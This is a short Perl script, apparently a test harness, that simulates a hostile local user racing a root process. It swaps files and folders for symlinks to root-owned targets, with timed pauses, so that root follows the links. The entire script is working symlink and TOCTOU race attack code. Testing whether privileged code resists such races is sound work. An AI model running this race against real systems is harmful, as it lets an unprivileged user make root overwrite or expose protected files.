#!/usr/bin/perl
# Another user of a host, who swaps names as fast as a program can, so that root follows one of them. Who never pauses refuses each change
# at its first step: pauses of up to 24 ms let root come to any other step. Arguments: `names` in a folder of that user, or the `folder`
# itself; the folder; a file and a folder of root's for links to lead to.
use strict;
use warnings;
my ($how, $folder, @victims) = @ARGV;
my ($parent) = $folder =~ m{^(.*)/};
$| = 1;
print "started\n";
for (my $turn = 0; getppid() != 1; $turn++) {
  my $victim = $victims[$turn % 2];
  select undef, undef, undef, 0.004 * ($turn / 64 % 7) if $turn % 64 == 0;
  if ($how eq 'folder') {
    rename $folder, "$parent/moved" or next;
    symlink $victims[1], $folder;
    unlink $folder;
    rename "$parent/moved", $folder;
    next;
  }
  # What root is about to make or has made: whatever it is called.
  opendir my $all, $folder or next;
  for my $name (grep { !/^\.\.?$|^\.own/ } readdir $all) {
    my $own = "$folder/.own$turn";
    if (-l "$folder/$name") {
      unlink "$folder/$name";
    } elsif (rename "$folder/$name", $own) {
      symlink $victim, "$folder/$name";
      rmdir $own or unlink $own;
    }
  }
  for my $name ('name', 'directory', 'below') {
    symlink $victim, "$folder/$name" if $turn % 4 == 0;
  }
  # A file to edit has to be there by turns.
  if ($turn % 4 == 1 && open my $file, '>', "$folder/.own") { print $file "text\n"; close $file; rename "$folder/.own", "$folder/name"; }
}
